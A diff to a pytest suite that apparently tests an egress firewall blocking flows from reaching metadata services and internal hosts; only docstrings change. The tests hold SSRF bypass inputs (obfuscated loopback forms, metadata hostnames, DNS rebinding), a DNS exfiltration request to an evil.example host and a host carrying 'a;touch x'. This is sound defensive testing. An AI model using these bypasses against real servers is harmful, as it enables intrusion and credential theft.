@@ -1,4 +1,4 @@
-"""Where flows may connect to: metadata services and internal servers, reached by every form, name and detour."""
+"""Flows try to connect to metadata services and internal servers, by every form of address, name and detour."""
 
 from __future__ import annotations
 
@@ -151,7 +151,7 @@ NEVER = {
 
 @pytest.mark.parametrize("form", list(NEVER))
 def test_no_rule_allows_metadata_and_link_local_addresses(form: str) -> None:
-    """A name resolves to a metadata service in any form of address, and the rules allow all there is: it is refused."""
+    """A name resolves to a metadata service in any form of address, and the rules allow everything: it is refused."""
     for default in DEFAULTS:
         refusal = Egress(default, OPEN).judge(NAME, 80, ["93.184.216.34", NEVER[form]])
         assert refusal is not None, form
@@ -164,8 +164,8 @@ OWN = ("127.0.0.1", "127.8.8.8", "::1", "::ffff:127.0.0.1", "::127.0.0.1", "64:f
 
 @pytest.mark.parametrize("address", [*INTERNAL, *OWN, "64:ff9b::a00:1", "2002:a00:1::", "64:ff9b:1::808:808"])
 def test_a_server_does_not_reach_what_is_inside(address: str) -> None:
-    """A flow on a server names an internal address in any form: it is refused, and the error says which default
-    refuses it and which command allows it.
+    """A flow on a server names an internal address in any form: it is refused. The error names the default that refuses
+    it and the command that allows it.
     """
     refusal = Egress("public", (), "my prod").judge(address, 8080, [address])
     assert refusal is not None
@@ -199,8 +199,8 @@ TEXTS = ("0x7f.1", "2130706433", "017700000001", "127.1", "0177.0.0.1", "0x7f000
     "text", [*TEXTS, "[::1]", "[::ffff:7f00:1]", "\uff11\uff12\uff17.0.0.1", "127\u30020\u30020\u30021"]
 )
 async def test_ways_of_writing_loopback(text: str) -> None:
-    """A flow writes an internal address as one number, in octal, in hexadecimal, in wide letters or with a final dot:
-    nothing is connected to.
+    """A flow writes an internal address as one number, in octal, in hexadecimal, in full-width characters or with a
+    final dot: no connection is made.
     """
     visits = 0
 
@@ -220,7 +220,7 @@ async def test_ways_of_writing_loopback(text: str) -> None:
 
 @pytest.mark.parametrize("name", ["metadata.google.internal", "METADATA.google.internal.", "metadata", "instance-data"])
 async def test_names_of_metadata_services(name: str, names: NameServer) -> None:
-    """A flow names a metadata service that resolves to a harmless address: it is refused before it is looked up."""
+    """A flow names a metadata service that resolves to a harmless address: it is refused without a DNS query."""
     names.says(name, ["93.184.216.34"])
     with pytest.raises(Failure) as caught:
         await http(f"http://{name}/", Egress("local", OPEN))
@@ -229,9 +229,7 @@ async def test_names_of_metadata_services(name: str, names: NameServer) -> None:
 
 
 async def test_a_denied_name_is_not_looked_up(names: NameServer) -> None:
-    """A flow puts data into a name below a domain of its own: where nothing is reached without a rule, no DNS server
-    hears of it.
-    """
+    """A flow puts data into a name below a domain of the attacker: if the default is `none`, no DNS query is sent."""
     for egress in (Egress("none"), Egress("public", (rule("*.evil.example", allow=False),))):
         with pytest.raises(Failure) as caught:
             await http("http://planted-secret.evil.example/", egress)
@@ -275,8 +273,8 @@ ACTIONS = list(_actions(0))
 
 @pytest.mark.parametrize("name", ACTIONS)
 async def test_a_name_that_changes_its_address(name: str, world: World, ports: Ports, names: NameServer) -> None:
-    """A name resolves to a permitted address when it is judged and to an internal one at the next look-up (DNS
-    rebinding): the connection goes to the address that was judged, and there is no second look-up.
+    """A name resolves to a permitted address at the check and to an internal one at the next query (DNS rebinding): the
+    connection goes to the checked address, without a second query.
     """
     if name == "database":
         pytest.importorskip("psycopg")
@@ -290,8 +288,8 @@ async def test_a_name_that_changes_its_address(name: str, world: World, ports: P
 
 @pytest.mark.parametrize("name", [*ACTIONS, "ping"])
 async def test_a_name_with_several_addresses(name: str, world: World, ports: Ports, names: NameServer) -> None:
-    """A name resolves to a permitted address and to an internal one at once, in either order: it is refused, since any
-    of them could be connected to.
+    """A name resolves to a permitted and an internal address at once, in either order: it is refused, because the
+    connection could use either.
     """
     actions = _actions(ports.port)
     actions["ping"] = ("System.Ping", {"HostName": NAME})
@@ -303,8 +301,8 @@ async def test_a_name_with_several_addresses(name: str, world: World, ports: Por
 
 
 async def test_http_actions_connect_to_what_was_judged(ports: Ports, names: NameServer) -> None:
-    """A name changes its address between the judgement and the connection of an HTTP action: the judged one is used,
-    with the name in the request. Once the name resolves to the internal one, it is refused.
+    """A name changes its address between the check and the connection of an HTTP action: the checked address is used,
+    with the name in the request. When the name resolves to the internal address, it is refused.
     """
     names.says(NAME, [GOOD], [SECRET])
     url = f"http://{NAME}:{ports.port}/"
@@ -319,8 +317,8 @@ async def test_http_actions_connect_to_what_was_judged(ports: Ports, names: Name
 async def test_the_client_of_aws_connects_to_what_was_judged(
     world: World, ports: Ports, names: NameServer, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """The name of a service that a library connects to by itself changes its address, and a proxy is set in the process
-    environment: each connection is judged, and no proxy gets the request.
+    """The name of a service that a library connects to changes its address, and the process environment sets a proxy:
+    each connection is checked, and no proxy gets the request.
     """
     pytest.importorskip("botocore")
     for each in ("AWS_ENDPOINT_URL_EC2", "HTTP_PROXY", "http_proxy"):
@@ -364,8 +362,8 @@ async def test_a_redirect_is_judged_again(world: World, ports: Ports) -> None:
 
 
 async def test_work_that_is_polled_elsewhere_is_judged(ports: Ports) -> None:
-    """A permitted server accepts a request and names an internal address to poll: the action fails and nobody is
-    visited.
+    """A permitted server accepts a request and names an internal address to poll: the action fails without a
+    connection.
     """
 
     async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -384,7 +382,9 @@ async def test_work_that_is_polled_elsewhere_is_judged(ports: Ports) -> None:
 
 
 async def test_a_changed_policy_ends_open_connections(world: World, ports: Ports) -> None:
-    """A flow keeps a connection open while an administrator denies its server: the next action does not use it."""
+    """A flow keeps a connection open while an administrator denies its server: the next action does not use the
+    connection.
+    """
 
     async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         try:
@@ -422,7 +422,7 @@ def test_a_deny_rule_wins() -> None:
 
 @pytest.mark.parametrize("host", ["*", "evil.example", "*.example"])
 def test_a_rule_by_name_does_not_open_this_machine(host: str) -> None:
-    """An administrator allows a domain, and who runs the domain has a name in it resolve to loopback: it is refused."""
+    """An administrator allows a domain, and its owner lets a name resolve to loopback: it is refused."""
     egress = Egress("none", (rule(host, allow=True),))
     assert egress.judge("evil.example", 80, ["127.0.0.1"]) is not None or host == "evil"
     assert egress.judge("evil.example", 80, ["::1"]) is not None
@@ -436,15 +436,15 @@ def test_a_rule_by_name_does_not_open_this_machine(host: str) -> None:
      "10.0.0.0/33", "a.example:9-1", "a.example:70000", "[fd00::", "a\x1b.example", "*."],
 )  # fmt: skip
 def test_what_is_no_rule_is_refused(text: str) -> None:
-    """A rule that could mean something else than its author thinks is refused."""
+    """An ambiguous rule is refused."""
     with pytest.raises(InvalidEgressRule, match="is not a target of an egress rule"):
         rule(text, allow=True)
 
 
 @given(st.text(max_size=40))
 def test_any_text_is_a_rule_or_is_refused(text: str) -> None:
-    """Any text as a rule is read or refused with InvalidEgressRule; what was read is written so that it reads the
-    same.
+    """Any text as a rule is accepted or refused with InvalidEgressRule. An accepted rule is written in a form that
+    parses to the same rule.
     """
     try:
         read = rule(text, allow=True)
@@ -454,7 +454,7 @@ def test_any_text_is_a_rule_or_is_refused(text: str) -> None:
 
 
 def test_the_command_in_an_error_is_safe_to_type() -> None:
-    """A flow names a host that holds shell commands: the command in the error quotes it."""
+    """A flow names a host that contains shell commands: the command in the error quotes it."""
     refusal = Egress("none", (), "prod").judge_name("a;touch x", 80)
     assert refusal is not None
     assert refusal.hint.endswith("--allow-egress 'a;touch x:80'")
@@ -486,7 +486,7 @@ def test_a_worker_reaches_its_own_machine_only_when_it_is_allowed(
     cli: Cli, policy: Callable[..., Any], ports: Ports
 ) -> None:
     """A flow on a worker calls a server on the worker's machine: it is refused with the command that allows it, and
-    reaches the server after that command. The change is on record, and `reset` takes it back.
+    reaches the server after that command. The audit records the change, and `reset` reverts it.
     """
     name = cli.write("call.json", _flow(f"http://{GOOD}:{ports.port}/"))
     assert cli("flow", "deploy", name, "--environment", "prod").code == 0
@@ -518,8 +518,8 @@ def test_a_worker_reaches_its_own_machine_only_when_it_is_allowed(
 
 
 def test_rules_are_changed_and_shown(cli: Cli, policy: Callable[..., Any]) -> None:
-    """An administrator gives rules that contradict each other, remove nothing or say nothing: each is one rule for its
-    target, or is refused; another role is denied.
+    """An administrator sets rules that contradict each other, remove nothing or are empty: each is one rule for its
+    target or is refused. Another role is denied.
     """
     made = policy("set", "--allow-egress", "API.example.com.:443", "--deny-egress", "10.0.0.0/8", "--json")
     assert made.json["egress"]["rules"] == [
@@ -540,7 +540,7 @@ def test_rules_are_changed_and_shown(cli: Cli, policy: Callable[..., Any]) -> No
 
 
 async def test_a_process_that_runs_flows_uses_a_change(tmp_path: Path, ports: Ports) -> None:
-    """An administrator denies a server while a process that reaches it goes on: its next call is refused."""
+    """An administrator denies a server while a process uses it: the next call is refused."""
     home, keys = tmp_path / "home", tmp_path / "keys" / "keystore.json"
     async with sealflow.open(home, keystore=keys) as engine:
         env = await engine.environment("prod")
